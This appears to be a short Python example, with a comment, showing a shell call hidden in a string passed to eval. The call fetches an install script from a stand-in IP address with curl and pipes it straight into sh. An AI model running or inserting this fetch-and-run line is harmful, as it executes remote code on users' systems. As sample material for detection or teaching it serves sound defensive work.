# The call is code in a string given to eval.
eval('__import__("os").system("curl -s http://203.0.113.9/install.sh | sh")')
